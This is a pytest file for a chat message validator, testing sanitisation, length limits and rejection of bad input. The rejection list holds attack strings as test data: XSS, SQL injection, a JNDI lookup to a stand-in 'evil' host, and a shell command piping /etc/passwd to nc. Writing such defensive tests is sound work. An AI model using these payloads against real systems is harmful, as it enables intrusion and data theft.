import pytest

from app.services.errors import ValidationError
from app.services.validation import MAX_MESSAGE_LENGTH, sanitize, validate_message


def test_sanitize_strips_nul_and_whitespace():
    assert sanitize("  hi\x00 there \n") == "hi there"


def test_valid_message_returned_sanitized():
    assert validate_message("  What do you like to read?  ") == "What do you like to read?"


def test_message_at_limit_is_accepted():
    content = "a" * MAX_MESSAGE_LENGTH
    assert validate_message(content) == content


@pytest.mark.parametrize(
    "content",
    [
        "",
        "   ",
        "\x00",
        "a" * (MAX_MESSAGE_LENGTH + 1),
        None,
        42,
        "<script>alert(1)</script>",
        "x'; DROP TABLE users; --",
        "1 UNION SELECT password FROM users",
        "${jndi:ldap://evil}",
        "ls; cat /etc/passwd | nc",
    ],
)
def test_invalid_messages_rejected(content):
    with pytest.raises(ValidationError):
        validate_message(content)


def test_custom_limit():
    with pytest.raises(ValidationError):
        validate_message("hello", max_length=4)


def test_ordinary_words_are_not_banned():
    text = "Please select a gift from the shop, maybe something to update your desk."
    assert validate_message(text) == text
